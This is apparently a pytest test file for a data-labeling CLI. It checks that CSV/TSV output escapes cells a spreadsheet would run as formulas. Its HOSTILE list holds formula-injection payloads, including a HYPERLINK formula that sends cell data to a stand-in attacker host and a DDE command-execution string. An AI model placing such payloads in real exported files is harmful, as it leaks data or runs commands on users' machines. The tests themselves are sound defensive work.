"""`batchrun label` output opened in a spreadsheet: data cells, header cells and model answers
that a spreadsheet would run as formulas are written as text (a ``'`` in front), unless
--raw-cells; read back with the csv module. Answers come from a raw loopback server."""

from __future__ import annotations

from pathlib import Path

import pytest

from batchrun.label.formulas import defuse

from ..helpers import read_jsonl
from ..labeltables import answering, invoke, prompt, read_table, write_table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+1 555 0100",
    "＝1+1",
    "＠SUM(A1)",
]
HARMLESS = ["-1", "+2.5", "-3e4", "-.5", "a=b", " =1", "plain", ""]
CELLS = HOSTILE + HARMLESS


def test_defuse_marks_what_a_spreadsheet_would_run() -> None:
    assert [defuse(text) for text in HOSTILE] == ["'" + text for text in HOSTILE]
    assert [defuse(text) for text in HARMLESS] == HARMLESS  # plain numbers and anything else


def template(folder: Path, text: str = "{id}|{text}") -> Path:
    path = folder / "t.txt"
    path.write_text(text + "\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("raw", [False, True], ids=["defused", "raw-cells"])
@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_hostile_cells_header_and_answers_read_back_as_text(tmp_path: Path, fmt: str, raw: bool) -> None:
    rows = [[str(i), cell, cell] for i, cell in enumerate(CELLS)]
    data = write_table(tmp_path / f"d.{fmt}", [["id", "text", "@note"], *rows])
    answers = {f"{i}|{cell}": CELLS[(i + 1) % len(CELLS)] for i, cell in enumerate(CELLS)}  # another row's cell
    with answering(lambda text, _: answers[text]) as server:
        code, err = invoke(str(data), "-t", str(template(tmp_path)), "--base-url", server.base_url,
                           *(["--raw-cells"] if raw else []))
    assert code == 0, err
    assert sorted(prompt(seen) for seen in server.seen) == sorted(answers)  # prompts have the cells as given
    def written(text: str) -> str:
        return "'" + text if not raw and (text in HOSTILE or text == "@note") else text

    expected = [["id", "text", written("@note"), "answer", "_error", "_raw"]]
    expected += [[*map(written, row), written(answers[f"{row[0]}|{row[1]}"]), "", ""] for row in rows]
    assert read_table(tmp_path / f"d.labeled.{fmt}") == expected


def test_jsonl_output_keeps_every_value_as_it_is(tmp_path: Path) -> None:
    data = write_table(tmp_path / "d.csv", [["id", "text"], *([str(i), cell] for i, cell in enumerate(CELLS))])
    with answering(lambda text, _: text.partition("|")[2]) as server:
        code, err = invoke(str(data), "-t", str(template(tmp_path)), "-o", str(tmp_path / "out.jsonl"),
                           "--base-url", server.base_url)
    assert code == 0, err
    assert [(row["text"], row["answer"]) for row in read_jsonl(tmp_path / "out.jsonl")] == [(c, c) for c in CELLS]


def test_a_label_that_is_a_formula_is_warned_about_once_before_the_run(tmp_path: Path) -> None:
    data = write_table(tmp_path / "d.csv", [["id", "text"], ["0", "a"], ["1", "b"], ["2", "c"]])
    answers = {"0|a": "=1+1", "1|b": "-1", "2|c": "OK."}
    labels = ["--labels", "=1+1,-1,ok,@x", "-t", str(template(tmp_path))]
    with answering(lambda text, _: answers[text]) as server:
        code, err = invoke(str(data), *labels, "-o", str(tmp_path / "out.csv"), "--base-url", server.base_url)
        assert code == 0, err
        assert [row[2] for row in read_table(tmp_path / "out.csv")] == ["label", "'=1+1", "-1", "ok"]
        warnings = [line for line in err.splitlines() if "WARNING" in line]
        assert len(warnings) == 1 and "would run '=1+1', '@x' as a formula" in warnings[0], err
        assert "with a ' in front" in warnings[0] and err.index(warnings[0]) < err.index("labeled 3 rows")

        code, err = invoke(str(data), *labels, "-o", str(tmp_path / "raw.csv"), "--raw-cells",
                           "--base-url", server.base_url)
        assert code == 0, err
        assert [row[2] for row in read_table(tmp_path / "raw.csv")] == ["label", "=1+1", "-1", "ok"]
        assert err.count("WARNING") == 1 and "--raw-cells writes such labels as given" in err

        code, err = invoke(str(data), *labels, "-o", str(tmp_path / "out.jsonl"), "--base-url", server.base_url)
        assert code == 0 and "WARNING" not in err  # not a spreadsheet


def test_retry_failed_finds_rows_whose_ids_are_formulas(tmp_path: Path) -> None:
    ids = ["=1", "-x", "@2"]
    data = write_table(tmp_path / "d.csv", [["id", "text"], *([i, "t"] for i in ids)])
    run = [str(data), "-t", str(template(tmp_path)), "--id-field", "id", "--max-attempts", "1"]
    with answering(lambda text, before: None if text == "=1|t" and not before else "+" + text) as server:
        code, err = invoke(*run, "--base-url", server.base_url)
        assert code == 1, err
        first = read_table(tmp_path / "d.labeled.csv")
        assert [row[0] for row in first[1:]] == ["'=1", "'-x", "'@2"] and first[1][3].startswith("server_error")
        code, err = invoke(*run, "--base-url", server.base_url, "--retry-failed")
        assert code == 0, err
    assert [prompt(seen) for seen in server.seen].count("=1|t") == 2 and len(server.seen) == 4
    assert read_table(tmp_path / "d.labeled.csv")[1:] == [["'" + i, "t", f"'+{i}|t", "", ""] for i in ids]
